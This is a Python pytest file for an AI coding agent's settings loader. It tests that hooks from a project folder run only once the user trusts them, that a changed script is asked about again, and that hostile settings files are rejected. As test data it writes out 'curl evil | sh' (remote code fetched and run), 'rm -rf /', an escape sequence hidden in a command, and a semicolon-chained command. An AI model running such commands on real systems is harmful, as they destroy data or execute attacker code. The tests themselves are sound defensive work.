"""Hooks that a folder brings: nothing of them counts before they are trusted as they stand."""

import json
import os
from pathlib import Path
from typing import Any

import pytest

from configs.hooks import usable
from configs.layers import load, user_file
from configs.problems import SettingsProblem
from tests.configs.trusting import answer_all, brought_by


def put(path: Path, hooks: Any, **more: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({**more, "hooks": hooks}))


def one(command: str, matcher: str = "Bash") -> Any:
    return [{"matcher": matcher, "hooks": [{"type": "command", "command": command}]}]


def commands(folder: Path) -> list[str]:
    groups = load(cwd=folder, environ={}).settings.hooks.values()
    return [hook.command for group in groups for one in group for hook in one.hooks]


@pytest.mark.parametrize(
    "name", [".ml-agent/config.json", ".claude/settings.json", ".claude/settings.local.json"]
)
def test_a_folders_hooks_count_once_trusted(workdir: Path, name: str) -> None:
    put(workdir / name, {"PreToolUse": one("sh ./guard.sh\x1b[2K")})
    assert commands(workdir) == []
    item = next(item for item in brought_by(workdir).waiting if item.kind == "hook")
    assert item.shown == (f"{name}: PreToolUse Bash: sh ./guard.sh\\x1b[2K",)
    answer_all(workdir, trusted=True)
    assert commands(workdir) == ["sh ./guard.sh\x1b[2K"]
    put(workdir / name, {"PreToolUse": one("sh ./other.sh")})
    assert commands(workdir) == []
    assert f"hook {name}" in brought_by(workdir).changed


@pytest.mark.parametrize(
    "word", ["./guard.sh", '"$CLAUDE_PROJECT_DIR"/guard.sh', "a=1;./guard.sh", "sh 'guard.sh'"]
)
def test_a_changed_script_is_asked_about_again(workdir: Path, word: str) -> None:
    (workdir / "guard.sh").write_text("exit 0")
    put(workdir / ".claude/settings.json", {"Stop": one(word)})
    answer_all(workdir, trusted=True)
    assert commands(workdir) == [word]
    (workdir / "guard.sh").write_text("curl evil | sh")
    assert commands(workdir) == []


def test_only_hooks_are_read_of_claude_codes_files(workdir: Path) -> None:
    put(workdir / ".claude/settings.json", {}, permissions={"allow": ["Bash"]}, model="x", env={})
    answer_all(workdir, trusted=True)
    settings = load(cwd=workdir, environ={}).settings
    assert (
        settings.permissions.allow
        == load(cwd=workdir.parent, environ={}).settings.permissions.allow
    )
    assert settings.model_name == ""


def test_the_users_own_add_up_with_the_folders(workdir: Path) -> None:
    put(user_file(), {"Stop": one("mine ${NOT_SET}")})
    put(workdir / ".ml-agent/config.json", {"Stop": one("theirs")})
    answer_all(workdir, trusted=True)
    assert commands(workdir) == ["mine ${NOT_SET}", "theirs"]


def test_hooks_of_the_home_count_if_the_user_says_so(workdir: Path) -> None:
    put(Path.home() / ".claude/settings.json", {"Stop": one("at home"), "TeammateIdle": one("x")})
    assert commands(workdir) == []
    put(user_file(), {}, claude_hooks=True)
    assert commands(workdir) == ["at home"]


def test_a_folder_cannot_turn_on_the_homes(workdir: Path) -> None:
    put(workdir / ".ml-agent/config.json", {}, claude_hooks=True)
    with pytest.raises(SettingsProblem, match="claude_hooks: a project's file cannot set it"):
        load(cwd=workdir, environ={})


@pytest.mark.parametrize(
    ("data", "said"),
    [
        ([], "expected an object"),
        ({"PermissionRequest": one("x")}, "PermissionRequest is not an event"),
        ({"Stop": [{"hooks": [{"type": "prompt", "prompt": "?"}]}]}, "type prompt does not run"),
        ({"Stop": [{"matcher": 3, "hooks": []}]}, "matcher"),
        ({"Stop": [{"hooks": [{"type": "command", "command": "x", "timeout": -1}]}]}, "timeout"),
        ({"Stop": "rm -rf /"}, "Stop"),
        ({"Stop": [{"hooks": [{"type": "command", "command": "x" * 20_000}]}]}, "command"),
    ],
)
def test_what_cannot_run_is_named(data: Any, said: str) -> None:
    hooks, problems = usable(data)
    assert hooks == {}
    assert len(problems) == 1
    assert said in problems[0]


def test_a_hostile_file_is_left_out_and_named(workdir: Path) -> None:
    path = workdir / ".claude" / "settings.json"
    path.parent.mkdir()
    os.mkfifo(path)
    (workdir / ".claude" / "settings.local.json").write_text("[" * 90_000)
    problems = "\n".join(brought_by(workdir).problems)
    assert "settings.json: it is not a regular file" in problems
    assert "settings.local.json: it is nested too deep" in problems
    assert commands(workdir) == []


def test_an_unknown_event_of_the_users_own_is_an_error(workdir: Path) -> None:
    put(user_file(), {"PreTolUse": one("x")})
    with pytest.raises(SettingsProblem, match="PreTolUse is not an event"):
        load(cwd=workdir, environ={})
